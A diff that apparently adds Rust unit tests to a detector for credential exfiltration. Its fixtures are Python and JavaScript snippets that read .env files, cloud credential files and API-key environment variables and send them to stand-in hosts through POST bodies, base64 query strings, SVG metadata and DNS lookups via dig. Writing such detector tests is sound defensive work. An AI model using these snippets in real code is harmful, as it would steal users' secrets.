@@ -421,3 +421,99 @@ fn a_file_written_then_sent_carries_its_content() {
     let other = "import pathlib, requests\nc = open('/home/u/.ssh/id_rsa').read()\npathlib.Path('/tmp/s.txt').write_text(c)\nrequests.post('https://x.example.net/p', data=open('/tmp/report.txt').read())\n";
     assert!(py(other).is_empty(), "{:?}", py(other));
 }
+
+#[test]
+fn dotenv_files_are_credential_files_and_their_keys_are_variables() {
+    // The whole file, encoded into a query string or a chart's metadata.
+    let v = py("import base64, os, urllib.request, urllib.parse\n\
+        blob = open('.env', 'rb').read() if os.path.exists('.env') else b''\n\
+        q = urllib.parse.urlencode({'d': base64.urlsafe_b64encode(blob).decode()})\n\
+        urllib.request.urlopen('https://metrics.x.example/p.gif?' + q)\n");
+    assert_eq!(one(&v, CREDENTIAL_FLOW), Severity::Critical, "{v:#?}");
+    let v = js("const fs = require('fs');\n\
+        const env = fs.existsSync('.env') ? Buffer.from(fs.readFileSync('.env')).toString('base64') : '';\n\
+        const svg = `<svg><metadata>${env}</metadata></svg>`;\n\
+        fetch('https://x.example/charts', { method: 'POST', body: svg });\n");
+    assert_eq!(one(&v, CREDENTIAL_FLOW), Severity::Critical, "{v:#?}");
+    let v = py("from dotenv import dotenv_values\nimport requests\n\
+        requests.post('https://x.example/c', json=dotenv_values('.env.production'))\n");
+    assert_eq!(one(&v, CREDENTIAL_FLOW), Severity::Critical, "{v:#?}");
+    // One key of it, sent to its own service, is that service's login.
+    for t in [
+        "import requests\nenv = dict(l.split('=', 1) for l in open('.env').read().splitlines())\n\
+         requests.post('https://api.openai.com/v1/x', headers={'Authorization': 'Bearer ' + env['OPENAI_API_KEY']})\n",
+        "from dotenv import dotenv_values\nimport requests\ncfg = dotenv_values('.env')\n\
+         requests.get('https://api.github.com/user', headers={'Authorization': cfg.get('GITHUB_TOKEN')})\n",
+        // Read line by line for the one key the file names, then used as that key.
+        "import requests\nfrom pathlib import Path\nkey = ''\n\
+         for line in Path('.env').read_text().splitlines():\n    if line.startswith('LUMA_API_KEY='):\n        key = line.split('=', 1)[1]\n\
+         requests.post('https://api.lumalabs.ai/v1/g', headers={'Authorization': f'Bearer {key}'})\n",
+        // The committed template holds no secret.
+        "import requests\nrequests.post('https://x.example/t', data=open('.env.example').read())\n",
+    ] {
+        assert!(py(t).is_empty(), "{t}: {:#?}", py(t));
+    }
+    // Sent elsewhere, it is still a credential sent away.
+    let v = py(
+        "import requests\nenv = dict(l.split('=', 1) for l in open('.env').read().splitlines())\n\
+        requests.post('https://x.example/c', data=env['OPENAI_API_KEY'])\n",
+    );
+    assert_eq!(one(&v, CREDENTIAL_FLOW), Severity::High, "{v:#?}");
+    let v = py("import requests\nfrom pathlib import Path\n\
+        for line in Path('.env').read_text().splitlines():\n    if line.startswith('LUMA_API_KEY='):\n        key = line.split('=', 1)[1]\n\
+        requests.post('https://x.example/g', data=key)\n");
+    assert_eq!(one(&v, CREDENTIAL_FLOW), Severity::High, "{v:#?}");
+    assert!(is_dotenv_path("./.env.local") && is_dotenv_path(".env"));
+    assert!(!is_dotenv_path(".env.sample") && !is_dotenv_path("load.environment"));
+}
+
+#[test]
+fn a_computed_key_reads_the_secrets_the_file_names() {
+    let v = py("import os, requests\n\
+        keys = {p: os.getenv(v) for p, v in {'openai': 'OPENAI_API_KEY', 'anthropic': 'ANTHROPIC_API_KEY'}.items() if os.getenv(v)}\n\
+        requests.post('https://logs.x.example/api/spend', json={'keys': keys})\n");
+    assert_eq!(one(&v, CREDENTIAL_FLOW), Severity::High, "{v:#?}");
+    assert!(v[0].2.contains("OPENAI_API_KEY"), "{}", v[0].2);
+    let v = js(
+        "const extra = ['GITHUB_TOKEN', 'OPENAI_API_KEY'].map((k) => `${k}=${process.env[k] || ''}`).join('\\n');\n\
+        fetch('https://x.example/api/paste', { method: 'POST', body: new URLSearchParams({ content: extra }) });\n",
+    );
+    assert_eq!(one(&v, CREDENTIAL_FLOW), Severity::High, "{v:#?}");
+    // One of the names owns the host: a login, not a theft.
+    let t = "import os, requests\nname = os.environ.get('KEY_VAR', 'OPENAI_API_KEY')\n\
+        requests.post('https://api.openai.com/v1/x', headers={'Authorization': 'Bearer ' + os.environ[name]})\n";
+    assert!(py(t).is_empty(), "{:#?}", py(t));
+    // A computed key in a file that names no secret reads nothing we know of.
+    let t = "import os, requests\nfor k in ('LANG', 'TZ'):\n    requests.post('https://x.example/e', data=os.environ[k])\n";
+    assert!(py(t).is_empty(), "{:#?}", py(t));
+}
+
+#[test]
+fn a_comprehension_binds_before_its_body_reads() {
+    let v = py(
+        "import json, requests\nfrom pathlib import Path\nHOME = Path.home()\n\
+        SOURCES = {'aws': HOME / '.aws' / 'credentials', 'kube': HOME / '.kube' / 'config'}\n\
+        found = {k: p.read_text() for k, p in SOURCES.items() if p.exists()}\n\
+        requests.post('https://x.example/clouds', data=json.dumps(found))\n",
+    );
+    assert_eq!(one(&v, CREDENTIAL_FLOW), Severity::Critical, "{v:#?}");
+}
+#[test]
+fn enumerate_and_shorthand_properties_keep_the_value() {
+    // A `.env` file's lines, hex-encoded into DNS labels (`enumerate` keeps the lines).
+    let v = py("import subprocess\nfrom pathlib import Path\n\
+        for n, line in enumerate(Path('.env').read_text().splitlines(), 1):\n    label = line.encode().hex()[:62]\n    \
+        subprocess.run(['dig', '+short', f'{label}.{n}.e.x.example'], capture_output=True)\n");
+    assert_eq!(one(&v, CREDENTIAL_FLOW), Severity::Critical, "{v:#?}");
+    // `{ method: 'POST', body }` sends `body`.
+    let v = js(
+        "const body = new URLSearchParams({ content: process.env.GITHUB_TOKEN });\n\
+        fetch('https://x.example/api/paste', { method: 'POST', body });\n",
+    );
+    assert_eq!(one(&v, CREDENTIAL_FLOW), Severity::High, "{v:#?}");
+    // The shorthand names what is sent, not a header: a variable the request does not send
+    // stays unreported.
+    let t = "const token = process.env.GITHUB_TOKEN;\nconst body = 'hello';\n\
+        fetch('https://x.example/api/paste', { method: 'POST', body });\n";
+    assert!(js(t).is_empty(), "{:#?}", js(t));
+}
